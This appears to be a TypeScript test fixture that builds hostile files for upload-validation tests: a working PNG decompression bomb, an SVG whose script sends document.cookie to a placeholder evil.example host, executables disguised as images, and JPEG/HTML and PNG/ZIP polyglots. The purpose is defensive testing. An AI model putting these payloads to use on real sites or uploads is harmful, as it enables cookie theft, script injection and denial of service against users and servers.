import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Hostile and awkward files for the upload tests, generated on the fly (nothing binary in git). */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/**
 * A real decompression bomb: a valid 1-bit greyscale PNG of width×height black pixels. 20000×20000
 * is 400 megapixels (1.2 GB as RGB once decoded) but only ~50 kB on the wire.
 */
export function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr.writeUInt8(1, 8) // bit depth
  ihdr.writeUInt8(0, 9) // greyscale
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height) // filter byte 0 + zero pixels per row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

export const photo = (width = 640, height = 400, color = '#336699') =>
  sharp({ create: { width, height, channels: 3, background: color } })
    .jpeg({ quality: 80 })
    .toBuffer()

/** A JPEG carrying a camera copyright and the GPS position of where it was taken (Hà Nội). */
export const photoWithGps = () =>
  sharp({ create: { width: 1200, height: 800, channels: 3, background: '#2a9d8f' } })
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Copyright: 'SECRET-CAMERA-OWNER', Make: 'TestCam' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '21/1 1/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '105/1 51/1 0/1' },
    })
    .toBuffer()

/** Tag 0x8825 (pointer to the GPS IFD) as it appears in little-endian EXIF. */
export const hasGps = (exif: Buffer | undefined) => Boolean(exif?.includes(Buffer.from([0x25, 0x88, 0x04, 0x00])))

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>',
)

/** A Linux executable (ELF header) and a Windows one (MZ/PE) — both renamed to .jpg by the attacker. */
export const elfExecutable = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0x90)])
export function windowsExecutable(): Buffer {
  const b = Buffer.alloc(512, 0)
  b.write('MZ', 0, 'latin1')
  b.writeUInt32LE(0x80, 0x3c)
  b.write('PE\0\0', 0x80, 'latin1')
  return b
}

/** A valid JPEG that is also an HTML page: markup hidden in a JPEG comment segment. */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await photo(64, 64)
  const html = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>')
  const com = Buffer.alloc(4)
  com.writeUInt16BE(0xfffe, 0)
  com.writeUInt16BE(html.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), com, html, jpeg.subarray(2)]) // SOI, COM, rest
}

/** A "GIFAR"-style polyglot: a valid image with a ZIP/JAR archive appended. */
export async function pngZipPolyglot(): Promise<Buffer> {
  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#ff0000' } })
    .png()
    .toBuffer()
  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 0x41)])
  return Buffer.concat([png, zip])
}
